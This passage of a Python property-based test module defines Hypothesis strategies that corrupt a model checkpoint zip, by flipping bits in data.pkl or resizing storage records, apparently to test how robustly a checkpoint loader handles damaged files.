        name = names[self.index % len(names)]
        content = zipfile.ZipFile(io.BytesIO(data)).read(name)
        change = (self.mask % 8) + 1
        resized = content[:-change] if self.mask % 2 else content + bytes(change)
        return _rewrite_zip(data, {name.split("/", 1)[1]: resized})

    @property
    def shortens_record(self) -> bool:
        """Whether this corruption cuts bytes off a storage record: the declared size then
        covers bytes the file does not hold, so a load that succeeds reads them from
        elsewhere (memory or the rest of the file) and their values mean nothing."""
        return self.kind == "resize_storage" and self.mask % 2 == 1

    def _targets(self, name: str) -> bool:
        if self.kind == "flip_data_pkl":
            return name.endswith("/data.pkl")
        return "/data/" in name


def corruptions() -> st.SearchStrategy[Corruption]:
    """Corruptions of the valid checkpoint; shrinks toward an empty file, then toward the
    first record and the lowest bit."""
    return st.builds(
        Corruption,
        kind=st.sampled_from(CORRUPTION_KINDS),
        index=st.integers(0, 4095),
        mask=st.sampled_from((1, 0x80, 0xFF, 2, 4, 7)),
    ).map(_record_corruption)


def _record_corruption(corruption: Corruption) -> Corruption:
    event(f"corruption: {corruption.kind}")
    return corruption
